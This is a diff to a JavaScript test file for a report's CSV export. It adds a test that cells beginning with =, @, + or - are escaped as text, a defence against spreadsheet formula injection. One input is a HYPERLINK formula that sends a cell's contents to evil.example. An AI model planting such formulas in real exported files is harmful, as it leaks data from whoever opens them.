@@ -238,8 +238,21 @@ describe('the report’s CSV', () => {
       '"2026 is not over: these figures run to 7 December 2026."',
       '"1 meeting did not record how many people with lived experience came, so the share is of the other meetings only."',
       '"1 meeting did not record which decision-makers came."',
-      '"People who came to more than one meeting are counted at each one. Where fewer than 5 people are counted, the number is not shown, so that no one can be recognised; nor is a total that would let such a number be worked out."',
+      '"People who came to more than one meeting are counted at each one. Where fewer than 5 people are counted, the number is not shown, so that no one can be recognised, and a total that includes such a number is given as the least and the most it could be."',
     ]);
     expect(csv).toContain('"Made in the year","0"\r\n"Delivered in the year (made in any year)","0"');
+  });
+
+  it('marks a name a spreadsheet would run as a formula as text, as the open data does', () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '@SUM(1+1)', '+1+1', '-2+3'];
+    const csv = toCsv([
+      { id: 'roles', title: 'Roles', columns: ['Role', 'Meetings'], rows: formulas.map((f) => [f, '1']) },
+    ]);
+    expect(csv.split('\r\n').slice(2, 6)).toEqual([
+      '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","1"',
+      '"\'@SUM(1+1)","1"',
+      '"\'+1+1","1"',
+      '"\'-2+3","1"',
+    ]);
   });
 });
